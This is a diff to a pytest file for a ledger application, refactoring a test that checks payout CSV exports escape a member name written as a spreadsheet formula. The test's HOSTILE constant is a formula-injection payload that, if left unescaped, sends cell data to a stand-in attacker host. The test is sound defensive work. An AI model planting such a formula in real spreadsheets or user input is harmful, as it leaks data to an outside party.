@@ -10,6 +10,7 @@ import pytest
 from ledger import books
 from ledger.books import Leg
 from ledger.payouts import spreadsheet_safe
+from tests.conftest import pay_out
 
 HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for your pay")'
 
@@ -24,7 +25,8 @@ def test_other_cells_and_numbers_are_written_as_they_are(cell):
     assert spreadsheet_safe(cell) == cell
 
 
-def test_a_member_named_like_a_formula_is_written_as_text_in_the_payout_file(runtime, steward):
+def test_a_member_named_like_a_formula_is_written_as_text_in_the_payout_file(runtime, steward, approver):
+    runtime.policies.seed_defaults()
     member = runtime.members.apply(HOSTILE, "mallory@coop.test", "mallory-password")
     runtime.members.admit(steward, member, ("member",))
     runtime.ledger.post(
@@ -33,7 +35,7 @@ def test_a_member_named_like_a_formula_is_written_as_text_in_the_payout_file(run
         [Leg(books.BASE_PAY, 900, "EUR"), Leg(books.member_payable(member), -900, "EUR")],
         "pay-mallory",
     )
-    run = runtime.payouts.run(steward, "EUR", 100, "run-1")
+    run = pay_out(runtime, steward, approver)
     rows = list(csv.reader(io.StringIO(runtime.payouts.export_csv(run))))
     assert rows[1][2] == "'" + HOSTILE
     assert rows[1][3] == "900"
